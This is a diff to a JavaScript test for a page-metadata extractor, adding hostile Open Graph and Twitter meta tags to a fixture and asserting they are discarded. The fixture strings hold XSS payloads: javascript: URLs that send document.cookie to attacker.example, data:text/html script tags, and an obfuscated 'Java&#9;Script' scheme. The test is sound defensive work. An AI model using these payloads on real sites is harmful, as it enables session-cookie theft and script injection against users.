@@ -211,10 +211,18 @@ describe('metadata', () => {
       head(
         `<link rel="canonical" href="javascript:fetch('https://attacker.example/?'+document.cookie)">` +
           '<link rel="icon" href="data:text/html,<script>alert(document.domain)</script>">' +
-          '<link rel="apple-touch-icon" href="data:image/png;base64,iVBORw0KGgo=">',
+          '<link rel="apple-touch-icon" href="data:image/png;base64,iVBORw0KGgo=">' +
+          `<meta property="og:url" content="javascript:fetch('https://attacker.example/?'+document.cookie)">` +
+          '<meta property="og:image" content="data:text/html,<script>alert(1)</script>">' +
+          '<meta property="og:title" content="Note: kept">' +
+          '<meta name="twitter:image" content=" Java&#9;Script:alert(1)">' +
+          '<meta name="twitter:player" content="/player">',
       ),
     );
     expect(hostile).toMatchObject({ canonicalUrl: null, favicon: 'data:image/png;base64,iVBORw0KGgo=' });
+    // Round 18: the same in the Open Graph and Twitter properties that hold an address; a relative one is kept.
+    expect(hostile.openGraph).toEqual({ title: 'Note: kept' });
+    expect(hostile.twitter).toEqual({ player: '/player' });
     const honest = await metadataOf(
       head(
         '<link rel="canonical" href="https://a.example/post"><link rel="icon" href="data:image/svg+xml,<svg/>">',
